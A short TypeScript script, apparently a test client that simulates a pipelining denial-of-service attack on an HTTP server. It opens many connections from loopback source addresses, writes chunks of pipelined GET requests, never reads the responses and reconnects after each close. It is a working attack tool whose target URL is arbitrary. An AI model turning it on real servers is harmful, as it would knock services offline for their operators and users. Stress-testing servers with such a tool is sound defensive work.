/**
 * Sends one chunk of pipelined requests on each connection and never reads:
 * pipelining-client.ts <url> <path> <connections> <addresses> <seconds>. Uses loopback addresses
 * from 127.0.1.1 on.
 */
import { connect } from 'node:net';
import { setPriority } from 'node:os';

const [url = '', path = '/', connections = '30', addresses = '1', seconds = '20'] =
  process.argv.slice(2);
const { hostname: host, port } = new URL(url);
const CHUNK_BYTES = 56 * 1024;

// A real attacker has its own machine.
setPriority(19);

const request = `GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`;
const chunk = Buffer.from(request.repeat(Math.max(1, Math.floor(CHUNK_BYTES / request.length))));

function open(index: number): void {
  const number = index % Number(addresses);
  const localAddress = `127.0.${1 + Math.floor(number / 250)}.${1 + (number % 250)}`;
  const socket = connect({ host, port: Number(port), localAddress });
  socket.pause();
  socket.once('connect', () => socket.write(chunk));
  socket.on('error', () => undefined);
  // An attacker would reconnect.
  socket.once('close', () => setTimeout(open, 1_000, index));
}

for (let index = 0; index < Number(connections); index += 1) open(index);
setTimeout(() => process.exit(0), Number(seconds) * 1_000);
